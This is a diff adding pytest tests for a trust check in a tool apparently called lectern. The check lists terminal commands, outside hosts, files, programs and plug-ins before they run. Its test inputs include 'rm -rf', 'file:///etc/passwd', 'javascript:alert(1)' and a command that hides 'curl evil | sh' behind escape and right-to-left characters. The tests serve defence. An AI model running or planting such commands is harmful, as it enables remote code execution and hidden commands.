@@ -1,0 +1,154 @@
+"""Trust: everything that would run is shown, allowed exactly as it is, and asked about again when it changes."""
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from lectern.pipeline.episode.model import BlenderSettings, Capture, CaptureSettings, Character, Episode, Scene, Settings, Step
+from lectern.pipeline.studio.trust import Danger, NotTrusted, dangers, is_trusted, require_trust, trust
+
+
+def run(value: str, line: int = 7) -> Step:
+    return Step(action="run", value=value, line=line)
+
+
+def open_(value: str) -> Step:
+    return Step(action="open", value=value, line=9)
+
+
+def episode(folder: Path, *captures: Capture, **more: object) -> Episode:
+    scene = Scene(id="a", title="A", line=1, captures=captures)
+    return Episode(folder=folder, title="T", narrator="ada", scenes=(scene,), **{"characters": (), **more})
+
+
+def terminal(*steps: Step, **more: object) -> Capture:
+    return Capture(id="c", kind="terminal", steps=steps, line=5, **more)
+
+
+def browser(*steps: Step) -> Capture:
+    return Capture(id="b", kind="browser", steps=steps, line=5)
+
+
+def shown(found: tuple[Danger, ...]) -> list[tuple[str, str, str]]:
+    return [(d.kind, d.where, d.what) for d in found]
+
+
+def test_prose_and_pages_of_the_episode_need_no_trust(tmp_path: Path) -> None:
+    safe = episode(tmp_path, browser(open_("pages/map.html#top"), Step(action="click"), open_("about:blank")))
+    assert dangers(safe) == ()
+    assert is_trusted((), profile=tmp_path)
+
+
+def test_every_terminal_step_is_a_danger_hidden_and_final_ones_too(tmp_path: Path) -> None:
+    capture = terminal(
+        run("ls"), Step(action="type", value="git log", line=8), Step(action="wait"),
+        hidden=(run("rm -rf old", 3),), **{"finally": (run("kill %1", 11),)},
+    )  # fmt: skip
+    assert shown(dangers(episode(tmp_path, capture))) == [
+        ("terminal", "script.md:3", "rm -rf old"),
+        ("terminal", "script.md:7", "ls"),
+        ("terminal", "script.md:8", "type git log"),
+        ("terminal", "script.md:11", "kill %1"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("address", "kind", "what"),
+    [
+        ("https://user:key@Example.org/x?y", "host", "example.org"),
+        ("http://localhost:8080/admin", "host", "localhost:8080"),
+        ("//cdn.example/x.js", "host", "cdn.example"),
+        ("file:///etc/passwd", "file", "file:///etc/passwd"),
+        ("../../private.html", "file", "../../private.html"),
+        ("/etc/hosts", "file", "/etc/hosts"),
+        ("javascript:alert(1)", "file", "javascript:alert(1)"),
+    ],
+)
+def test_servers_and_files_outside_the_episode_are_dangers(tmp_path: Path, address: str, kind: str, what: str) -> None:
+    assert shown(dangers(episode(tmp_path, browser(open_(address))))) == [(kind, "script.md:9", what)]
+
+
+def test_a_desktop_is_dangerous_at_every_step(tmp_path: Path) -> None:
+    capture = Capture(id="d", kind="desktop", steps=(Step(action="click", value="", line=4, at="go"),))
+    assert shown(dangers(episode(tmp_path, capture))) == [("desktop", "script.md:4", '{"action":"click"}')]
+
+
+def test_a_folder_for_a_terminal_counts_with_the_content_of_its_files(tmp_path: Path) -> None:
+    (tmp_path / "lab/sub").mkdir(parents=True)
+    (tmp_path / "lab/sub/make.sh").write_text("echo harmless")
+    before = dangers(episode(tmp_path, terminal(run("sh sub/make.sh"), folder="lab")))
+    (tmp_path / "lab/sub/make.sh").write_text("echo harmful")
+    after = dangers(episode(tmp_path, terminal(run("sh sub/make.sh"), folder="lab")))
+    assert before[0].what == "lab is copied for it: sub/make.sh"
+    assert before[0].content != after[0].content and before[1] == after[1]
+
+
+def test_programs_named_in_the_settings_are_dangers_with_their_line(tmp_path: Path) -> None:
+    (tmp_path / "lectern.toml").write_text('[blender]\nprogram = "/opt/blender"\n[capture]\nchromium = "./evil"\n')
+    (tmp_path / "evil").write_text("#!/bin/sh")
+    settings = Settings(blender=BlenderSettings(program="/opt/blender"), capture=CaptureSettings(chromium="./evil"))
+    found = dangers(episode(tmp_path, settings=settings))
+    assert shown(found) == [("program", "lectern.toml:2", "/opt/blender"), ("program", "lectern.toml:4", "./evil")]
+    assert (found[0].content == "", len(found[1].content)) == (True, 64)
+
+
+def test_plug_ins_of_the_episode_and_of_its_studio_are_dangers(tmp_path: Path) -> None:
+    mine = tmp_path / "series" / "one"
+    for home, name in ((mine, "a.py"), (tmp_path, "b.py")):
+        (home / "plugins").mkdir(parents=True)
+        (home / "plugins" / name).write_text("def providers(registry): ...")
+    (tmp_path / "lectern.toml").write_text("")
+    assert [(d.kind, d.where) for d in dangers(episode(mine))] == [("plug-in", "plugins/a.py:1"), ("plug-in", "plugins/b.py:1")]
+
+
+def test_a_voice_that_lectern_does_not_carry_is_a_danger_with_its_settings(tmp_path: Path) -> None:
+    speakers = tuple(
+        Character(id=i, name=i, portrait="x.svg", provider=p, voice="v", settings=(("url", "http://x"),), file=f"c/{i}.json")
+        for i, p in (("ada", "espeak"), ("ben", "command"))
+    )
+    assert shown(dangers(episode(tmp_path, characters=speakers))) == [
+        ("provider", "ben.json", "command, voice v url = http://x")
+    ]
+
+
+def test_a_disabled_scene_runs_nothing(tmp_path: Path) -> None:
+    off = Scene(id="a", title="A", line=1, captures=(terminal(run("ls")),), enabled=False)
+    assert dangers(Episode(folder=tmp_path, title="T", narrator="ada", scenes=(off,), characters=())) == ()
+
+
+def test_trust_holds_for_exactly_what_was_shown_and_moves_with_edited_prose(tmp_path: Path) -> None:
+    found = dangers(episode(tmp_path, terminal(run("ls", 7), run("pwd", 8))))
+    assert not is_trusted(found, profile=tmp_path / "profile")
+    trust(found, tmp_path, profile=tmp_path / "profile")
+    moved = dangers(episode(tmp_path, terminal(run("ls", 17), run("pwd", 18))))
+    assert is_trusted(moved, profile=tmp_path / "profile")
+    for changed in ((run("ls"), run("pwd -P")), (run("pwd"), run("ls")), (run("ls"),), (run("ls"), run("pwd"), run("id"))):
+        assert not is_trusted(dangers(episode(tmp_path, terminal(*changed))), profile=tmp_path / "profile")
+
+
+def test_the_message_shows_every_thing_with_its_line_and_hides_nothing(tmp_path: Path) -> None:
+    found = dangers(episode(tmp_path, terminal(run("ls \x1b[8m; curl evil\u202e | sh\nrm x", 12))))
+    with pytest.raises(NotTrusted) as raised:
+        require_trust(found, profile=tmp_path / "profile")
+    assert "script.md:12  terminal  ls \\x1b[8m; curl evil\\u202e | sh\\nrm x" in str(raised.value)
+    assert "--trust" in str(raised.value) and raised.value.dangers == found
+
+
+def test_the_file_of_trust_belongs_to_the_person_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("LECTERN_CONFIG_HOME", str(tmp_path / "home"))
+    old = os.umask(0)
+    try:
+        trust(dangers(episode(tmp_path, terminal(run("ls")))), tmp_path)
+    finally:
+        os.umask(old)
+    file = tmp_path / "home" / "trust.json"
+    assert (stat.S_IMODE(file.stat().st_mode), stat.S_IMODE(file.parent.stat().st_mode)) == (0o600, 0o700)
+    assert [f.name for f in file.parent.iterdir()] == ["trust.json"]
+
+
+def test_an_unreadable_file_of_trust_trusts_nothing_and_says_so(tmp_path: Path) -> None:
+    (tmp_path / "trust.json").write_text("{")
+    with pytest.raises(Exception, match="Delete it"):
+        is_trusted(dangers(episode(tmp_path, terminal(run("ls")))), profile=tmp_path)
